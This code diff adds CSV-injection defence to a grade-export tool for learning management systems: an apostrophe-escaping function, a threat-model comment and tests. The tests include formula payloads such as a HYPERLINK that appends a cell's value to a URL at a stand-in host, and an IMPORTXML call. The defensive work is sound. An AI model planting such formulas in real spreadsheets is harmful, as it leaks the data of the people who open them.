@@ -5,6 +5,14 @@
 //! to a username, an email address or an ID number, then one column per
 //! exercise). A roster maps the class's folders to the LMS's ids, names,
 //! emails and sections; students missing from either side are listed.
+//!
+//! Threat model: names, emails and sections come from the LMS, where a
+//! student writes their own, and an instructor may open the file in a
+//! spreadsheet before importing it. A cell a spreadsheet would evaluate
+//! (OWASP's CSV injection rule: one starting with `=`, `+`, `-`, `@`, a tab
+//! or a carriage return) is written with a leading apostrophe, which makes
+//! it text; a number stays a number (`-3` is not a formula), so points
+//! columns import as points.
 
 use std::collections::BTreeMap;
 use std::ffi::OsStr;
@@ -114,12 +122,20 @@ impl Roster {
             }
             people.push((folder, person));
         }
-        let folders: Vec<&OsStr> = people.iter().map(|(f, _)| OsStr::new(f.as_str())).collect();
-        let ids = student_id::assign(&folders);
+        // A row may name the id grading printed for a renamed folder; no
+        // folder keeps an id of that shape.
+        let folders: Vec<&OsStr> = people
+            .iter()
+            .filter(|(f, _)| !student_id::is_renamed(f))
+            .map(|(f, _)| OsStr::new(f.as_str()))
+            .collect();
+        let mut ids = student_id::assign(&folders).into_iter();
         let people = people
             .into_iter()
-            .zip(ids)
-            .map(|((_, person), assigned)| (assigned.id, person))
+            .map(|(folder, person)| match student_id::is_renamed(&folder) {
+                true => (folder, person),
+                false => (ids.next().expect("an id per folder").id, person),
+            })
             .collect();
         Ok(Roster { people })
     }
@@ -227,9 +243,19 @@ pub fn export(results: &Results, lms: Lms, roster: Option<&Roster>) -> Exported 
     }
     for (id, person) in &people {
         let student = results.students.get(id);
+        for (header, field) in identity.iter().filter(|(_, f)| !SHOWN_ONLY.contains(f)) {
+            let value = person.get(field).map_or("", String::as_str);
+            if inert(value) != value {
+                unmatched.push(format!(
+                    "{id}: the {header} {value:?} starts like a spreadsheet formula and was \
+                     written with a leading apostrophe; the LMS may not match it: check this \
+                     student's grades by hand"
+                ));
+            }
+        }
         let row: Vec<String> = identity
             .iter()
-            .map(|(_, field)| csv_field(person.get(field).map_or("", String::as_str)))
+            .map(|(_, field)| csv_field(&inert(person.get(field).map_or("", String::as_str))))
             .chain(
                 exercises
                     .iter()
@@ -239,6 +265,30 @@ pub fn export(results: &Results, lms: Lms, roster: Option<&Roster>) -> Exported 
         csv.push_str(&(row.join(",") + "\n"));
     }
     Exported { csv, unmatched }
+}
+
+/// The roster fields an LMS only shows; it matches students by the others
+/// (ids, logins, emails), and a change to one of those loses the row.
+const SHOWN_ONLY: [&str; 2] = ["name", "section"];
+
+/// `text` as a cell no spreadsheet evaluates: a leading apostrophe before
+/// what would start a formula, a number left as it is.
+pub fn inert(text: &str) -> std::borrow::Cow<'_, str> {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && !is_plain_number(text) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// An optional minus, digits, and optionally a point and more digits: what
+/// a spreadsheet reads as a number and nothing else.
+fn is_plain_number(text: &str) -> bool {
+    let digits = text.strip_prefix('-').unwrap_or(text);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    all_digits(whole) && all_digits(fraction)
 }
 
 /// A CSV text's rows: comma-separated, fields in double quotes may hold
@@ -359,6 +409,57 @@ mod tests {
         assert!(id.starts_with("zo_-"), "{id}");
         let ids = student_id::assign(&[OsStr::new("zo\u{eb}")]);
         assert_eq!(*id, ids[0].id);
+    }
+
+    #[test]
+    fn a_roster_may_name_a_student_by_the_id_grading_printed() {
+        let id = student_id::assign(&[OsStr::new("zo\u{eb}")])[0].id.clone();
+        let roster =
+            Roster::parse(&format!("folder,email\n{id},z@uni.edu\nann,a@uni.edu\n")).unwrap();
+        assert_eq!(roster.people[0].0, id);
+        assert_eq!(roster.people[1].0, "ann");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers() {
+        for formula in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"grades\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(1)",
+            "\t=1",
+            "\r=1",
+            "-",
+            "-1e5",
+            "--1",
+            "-1.",
+        ] {
+            assert_eq!(inert(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for kept in ["Ada", "-3", "-3.25", "12", "0.5", "a=b", " =1", ""] {
+            assert_eq!(inert(kept), kept, "{kept:?}");
+        }
+        let roster = Roster::parse(
+            "folder,name,sis_login_id,section\n\
+             ann,\"=IMPORTXML(\"\"http://x\"\",\"\"//a\"\")\",@ann,-\n",
+        )
+        .unwrap();
+        let exported = export(&results(), Lms::Canvas, Some(&roster));
+        let rows = csv_rows(&exported.csv).unwrap();
+        assert_eq!(
+            rows[2][..5],
+            ["'=IMPORTXML(\"http://x\",\"//a\")", "", "", "'@ann", "'-"]
+        );
+        // The points import as points.
+        assert_eq!(rows[2][5..], ["3", "7"]);
+        assert!(
+            exported
+                .unmatched
+                .iter()
+                .any(|u| u.contains("SIS Login ID \"@ann\"")),
+            "{:?}",
+            exported.unmatched
+        );
     }
 
     #[test]
